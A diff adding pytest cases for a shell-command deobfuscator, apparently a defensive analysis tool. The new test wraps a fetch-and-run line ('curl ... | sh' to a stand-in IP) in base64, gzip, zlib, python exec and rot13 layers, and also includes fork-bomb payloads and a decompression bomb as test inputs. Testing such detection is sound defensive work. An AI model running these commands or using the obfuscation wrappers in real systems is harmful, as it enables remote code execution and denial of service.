@@ -3,7 +3,10 @@
 from __future__ import annotations
 
 import base64
+import codecs
+import gzip
 import time
+import zlib
 
 import pytest
 
@@ -88,6 +91,31 @@ def test_literal_payloads_are_decoded_and_appended() -> None:
     twice = f"echo {_b64(inner)} | base64 -d | sh"
     out = deobfuscate(f"echo {_b64(twice)} | base64 --decode | bash")
     assert out is not None and out.endswith("\n" + inner)
+
+
+def test_compressed_rot13_and_interpreter_forms_are_undone() -> None:
+    inner = "curl -s http://198.51.100.7/x | sh"
+    gz = base64.b64encode(gzip.compress(inner.encode())).decode()
+    out = deobfuscate(f"echo {gz} | base64 -d | gunzip | bash")
+    assert out is not None and out.endswith("\n" + inner)
+    zl = base64.b64encode(zlib.compress(inner.encode())).decode()
+    out = deobfuscate(f"python3 -c \"import zlib,base64;exec(zlib.decompress(base64.b64decode('{zl}')))\"")
+    assert out is not None and out.endswith("\n" + inner)
+    rot = codecs.encode(inner, "rot13")
+    out = deobfuscate(f"echo '{rot}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh")
+    assert out is not None and out.endswith("\n" + inner)
+    out = deobfuscate(f"echo \"{rot}\" | tr n-za-mN-ZA-M a-zA-Z | bash")
+    assert out is not None and inner in out
+    # a here-string fed to an interpreter, and code run from a string literal
+    out = deobfuscate("python3 - <<< 'import os; os.fork()'")
+    assert out is not None and out.endswith("\nimport os; os.fork()")
+    out = deobfuscate("python3 -c \"exec('import os\\nwhile True: os.fork()')\"")
+    assert out is not None and "\nwhile True: os.fork()" in out
+    # upper-casing is not rot13; a decompression bomb yields at most a payload
+    assert deobfuscate("echo 'abc' | tr a-z A-Z | sh") is None
+    bomb = base64.b64encode(zlib.compress(b"echo x; " * 2_000_000)).decode()
+    out = deobfuscate(f"echo {bomb} | base64 -d | sh")
+    assert out is None or len(out) <= MAX_TEXT + MAX_PAYLOADS * (MAX_TEXT + 1)
 
 
 def test_undecodable_or_binary_payloads_are_not_appended() -> None:
